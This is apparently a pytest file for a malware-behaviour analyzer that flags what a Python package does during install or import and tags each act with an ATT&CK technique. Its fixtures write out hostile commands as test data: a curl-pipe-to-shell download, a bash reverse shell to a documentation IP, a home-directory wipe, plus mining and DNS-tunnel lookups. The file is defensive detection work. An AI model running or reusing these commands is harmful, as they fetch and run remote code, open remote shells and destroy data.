"""What a package did is known for what it is, with its technique; an installer's own deeds are not the package's."""

from __future__ import annotations

from typing import Any

import pytest

from pumpkin.analysis import behaviour
from pumpkin.model.findings import Level
from pumpkin.model.reports import Artifact, Environment, FileUse, Phase, Report


def report(*events: dict[str, Any], files: tuple[FileUse, ...] = (), phase: str = "install") -> Report:
    return Report(Artifact("pypi"), Environment(), (Phase(phase, "completed", events=events, files=files),))


def run(*argv: str, **more: Any) -> dict[str, Any]:
    return {"kind": "exec", "argv": argv, "path": argv[0], **more}


@pytest.mark.parametrize(
    ("event", "rule", "tactic"),
    [
        (run("sh", "-c", "curl -s https://c.example/x | sh"), "dynamic-download-and-run", "T1105"),
        (run("bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"), "dynamic-reverse-shell", "T1059.004"),
        (run("sh", "-c", "rm -rf ~/*"), "dynamic-wipe", "T1485"),
        ({"kind": "dns", "name": "pool.minexmr.example"}, "dynamic-mining", "T1496"),
        ({"kind": "connect", "address": "198.51.100.7", "port": 3333}, "dynamic-mining-port", "T1496"),
        ({"kind": "dns", "name": "6" * 48 + ".x.example"}, "dynamic-dns-tunnel", "T1071.004"),
    ],
)
def test_an_act_is_told_with_its_technique(event: dict[str, Any], rule: str, tactic: str) -> None:
    assert [(one.rule, one.tactic) for one in behaviour.findings(report(event))] == [(rule, tactic)]


def test_many_names_below_one_domain_are_a_tunnel() -> None:
    events = [{"kind": "dns", "name": f"{n}.x.example"} for n in range(20)]
    assert [one.rule for one in behaviour.findings(report(*events))] == ["dynamic-dns-tunnel"]


def test_looking_for_a_container_is_told() -> None:
    use = FileUse("/.dockerenv", tried=1)
    assert [one.rule for one in behaviour.findings(report(files=(use,)))] == ["dynamic-evasion"]


def test_the_installer_and_ordinary_acts_say_nothing() -> None:
    events = [run("sh", "-c", "curl https://c.example|sh", installer=True), run("gcc", "-c", "a.c"),
              {"kind": "dns", "name": "files.example"}]  # fmt: skip
    assert behaviour.findings(report(*events)) == []


CALLER = "\nexec(compile('''\n# This is <pip-setuptools-caller> -- a caller that pip uses to run setup.py"
PIP = run("/usr/bin/python3", "-m", "pip", "install", "x.tar.gz", pid=26, installer=True)


def test_how_pip_runs_a_setup_py_is_not_the_package_s_deed() -> None:
    events = [PIP, run("/usr/bin/python3", "-u", "-c", CALLER, "bdist_wheel", pid=29, ppid=26)]
    assert behaviour.findings(report(*events)) == []


@pytest.mark.parametrize(
    "events",
    [
        [run("/usr/bin/python3", "-c", CALLER, pid=29, ppid=26)] * 2,
        [run("/usr/bin/python3", "setup.py", pid=29, ppid=26), run("/usr/bin/python3", "-c", CALLER, pid=30, ppid=29)],
        [run("/usr/bin/python3", "-c", "exec('''" + CALLER, pid=29, ppid=26)],
    ],
    ids=["in its own place", "by its own child", "with more before it"],
)
def test_a_package_that_dresses_up_as_pip_is_told(events: list[dict[str, Any]]) -> None:
    assert [one.rule for one in behaviour.findings(report(PIP, *events))] == ["dynamic-inline-code"]


def test_what_is_run_on_request_weighs_less() -> None:
    event = run("sh", "-c", "curl -s https://c.example/x | sh")
    levels = [behaviour.findings(report(event, phase=phase))[0].level for phase in ("import", "execute")]
    assert levels == [Level.CRITICAL, Level.MEDIUM]
